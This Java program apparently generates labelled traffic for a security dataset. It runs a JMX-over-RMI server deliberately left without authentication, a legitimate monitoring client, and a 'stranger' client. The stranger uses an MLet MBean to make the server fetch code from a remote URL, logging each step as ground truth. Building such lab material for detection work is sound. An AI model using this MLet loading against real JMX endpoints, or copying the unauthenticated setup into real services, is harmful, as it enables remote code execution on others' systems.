/* peers/Jmx.java: a Java program that is managed by JMX over RMI, and its clients; java.rmi and javax.management of the JDK.
 *
 * java Jmx.java server ADDRESS            serves the registry on 1099, jmxrmi in it, and JMX without a login on a port of its own
 * java Jmx.java monitor ADDRESS SECONDS   reads the memory in use once a second, with a user and a password
 * java Jmx.java stranger ADDRESS          looks round, loads a class loader into it and tells it to fetch code
 */
import java.lang.management.ManagementFactory;
import java.net.NetworkInterface;
import java.nio.file.*;
import java.rmi.registry.*;
import java.util.*;
import javax.management.*;
import javax.management.remote.*;

public class Jmx {
	static String device;

	static String me() throws Exception {
		for (var address : Collections.list(NetworkInterface.getByName("eth0").getInetAddresses()))
			if (address instanceof java.net.Inet4Address)
				return address.getHostAddress();
		throw new IllegalStateException("no address");
	}

	static void tell(String action, String outcome) throws Exception {
		Files.writeString(Path.of(System.getenv("TRUTH")), String.format(
			"{\"action\":\"%s\",\"actor\":\"%s\",\"device\":\"%s\",\"outcome\":\"%s\"}%n", action, me(), device, outcome),
			StandardOpenOption.APPEND);
	}

	static void serve() throws Exception {
		System.setProperty("java.rmi.server.hostname", device);
		LocateRegistry.createRegistry(1099);
		var url = new JMXServiceURL("service:jmx:rmi:///jndi/rmi://" + device + ":1099/jmxrmi");

		JMXConnectorServerFactory.newJMXConnectorServer(url, null, ManagementFactory.getPlatformMBeanServer()).start();
		Thread.sleep(150_000);
	}

	static JMXConnector connect(Map<String, Object> how) throws Exception {
		var c = JMXConnectorFactory.connect(new JMXServiceURL("service:jmx:rmi:///jndi/rmi://" + device + ":1099/jmxrmi"), how);

		tell("query", "done");
		tell("login", "done");
		return c;
	}

	static void monitor(int seconds) throws Exception {
		var c = connect(Map.of(JMXConnector.CREDENTIALS, new String[] { "monitor", "sehr-geheim-7" }));
		var memory = new ObjectName("java.lang:type=Memory");

		Files.writeString(Path.of(System.getenv("TRUTH")), "{\"fact\":\"secret\",\"value\":\"sehr-geheim-7\"}\n",
			StandardOpenOption.APPEND);
		for (int i = 0; i < seconds; i++) {
			c.getMBeanServerConnection().getAttribute(memory, "HeapMemoryUsage");
			tell("read", "done");
			Thread.sleep(1000);
		}
		c.close();
		tell("session-close", "done");
	}

	static void stranger() throws Exception {
		LocateRegistry.getRegistry(device, 1099).list();
		tell("browse", "done");
		var c = connect(Map.of());
		var m = c.getMBeanServerConnection();
		var mlet = new ObjectName("DefaultDomain:type=MLet");

		m.queryNames(null, null);
		tell("browse", "done");
		m.createMBean("javax.management.loading.MLet", mlet);
		tell("program-write", "done");
		try {
			m.invoke(mlet, "getMBeansFromURL", new Object[] { "http://" + me() + ":8000/m.html" },
				new String[] { "java.lang.String" });
		} catch (MBeanException | RuntimeMBeanException | ReflectionException nothingThere) {
			tell("control-other", "refused");
		}
		m.unregisterMBean(mlet);
		tell("program-delete", "done");
		c.close();
		tell("session-close", "done");
	}

	public static void main(String[] words) throws Exception {
		device = words[1];
		switch (words[0]) {
		case "server" -> serve();
		case "monitor" -> monitor(Integer.parseInt(words[2]));
		case "stranger" -> stranger();
		}
		System.exit(0);
	}
}
